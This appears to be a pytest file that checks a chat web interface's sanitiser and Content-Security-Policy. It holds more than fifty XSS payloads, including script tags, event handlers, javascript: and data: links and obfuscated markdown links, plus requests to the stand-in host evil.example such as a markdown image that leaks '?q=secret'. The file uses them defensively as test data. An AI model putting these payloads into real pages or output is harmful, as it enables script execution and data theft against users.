"""What a model writes runs nothing and loads nothing, wherever the page shows it."""

import pytest

pytestmark = pytest.mark.long

RUN = "window.__xss=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC='https://evil.example/x.js'></SCRIPT><script>{RUN}</script >",
    f"<img src=x onerror={RUN}>",
    f'<img src="https://evil.example/a.png" onload="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<p style='background:url(https://evil.example/x)' onclick={RUN}>x</p>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<div><img/src/onerror={RUN}><b id=createElement name=body>x</b></div>",
    f"[link](javascript:{RUN})",
    f"[link](  JaVaScRiPt:{RUN})",
    f"[link](java\tscript:{RUN})",
    f"[link](&#106;avascript:{RUN})",
    f"[link](javascript&colon;{RUN})",
    f"[link](data:text/html,<script>{RUN}</script>)",
    f"[link](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"[link][1]\n\n[1]: javascript:{RUN}",
    f'[link](https://example.org "x" onmouseover="{RUN}")',
    f'[link](<https://example.org/"onmouseover="{RUN}>)',
    "![image](https://evil.example/?q=secret)",
    f'![x" onerror="{RUN}](x)',
    f'```"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
    f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```\n`<img src=x onerror={RUN}>`",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | <svg/onload={RUN}> |",
    f"# <img src=x onerror={RUN}>\n\n> <svg onload={RUN}>\n\n- [ ] <iframe src=javascript:{RUN}>",
)
FOUND = """
const [area, run] = arguments, bad = [];
if (run in window) bad.push('ran');
for (const one of document.querySelectorAll(area + ' *')) {
  const name = one.localName;
  const loads = /^(script|iframe|frame|object|embed|img|image|svg|math|style|link|meta|base|form|input|video|audio)$/;
  if (loads.test(name) && !one.closest('button')) bad.push('<' + name + '>');
  for (const { name: attribute, value } of one.attributes) {
    if (attribute.startsWith('on') || attribute === 'srcdoc' || attribute === 'style' && !one.matches('.token'))
      bad.push(name + ' ' + attribute);
    if (attribute === 'href' && !/^(https?:|mailto:)/.test(value)) bad.push(name + ' ' + value);
  }
}
return bad;
"""


def test_there_are_fifty():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_output_of_a_model_runs_and_loads_nothing(page, script):
    def harmless(area=".body"):
        assert page.js(FOUND, area, "__xss") == []

    asked = page.requested
    for number, payload in enumerate(PAYLOADS):
        page.open()
        page.say(script.add(f"payload{number}", payload))
        harmless()
        page.js("for (const link of document.querySelectorAll('.body a')) link.removeAttribute('target')")
        for link in page(".body a:not([href])"):
            link.click()
        for link in page(".body a, .body p, .body td"):
            page.js(
                "for (const name of ['mouseover', 'focus', 'toggle']) arguments[0].dispatchEvent(new Event(name))", link
            )
        harmless()
        page.button("Token probabilities")
        page.until(lambda: page(".token"))
        page.js("document.querySelector('.token').dispatchEvent(new Event('focus'))")
        harmless()
        harmless("#tip code")
        asked += page.requested
    assert [one for one in asked if not one.startswith((page.url, "about:"))] == []
    assert len(asked) > 5 * len(PAYLOADS)
    assert page.complaints == []  # among them would be what the Content-Security-Policy has stopped


def test_texts_of_users_run_nothing_either(page, script):
    for payload in [one for one in PAYLOADS if len(one) < 45][:8]:  # the window has 96 tokens
        page.open()
        page.say(f"{payload} {script.add('b', 'c')}")
        page.until(lambda payload=payload: page.one("#title").text.startswith(payload[:10]))
        page.until(lambda payload=payload: page("#list a")[0].text.startswith(payload[:10]))
        for area in (".body", "#list", "header h1"):
            bad = page.js(FOUND, area, "__xss")
            assert [one for one in bad if not one.startswith("a #")] == []


def test_the_policy_stops_what_the_page_would_let_through(page):
    """The third wall: markup that reaches the page unsanitised runs nothing and asks for nothing elsewhere."""
    page.requested  # noqa: B018
    page.js(
        "document.getElementById('messages').innerHTML = arguments[0]",
        "".join(one for one in PAYLOADS if one.startswith("<") and "meta" not in one),
    )
    page.js("return new Promise((done) => setTimeout(done, 300))")
    assert page.js("return '__xss' in window") is False
    assert [one for one in page.requested if "evil" in one] == []
    assert any("Content Security Policy" in one for one in page.complaints)
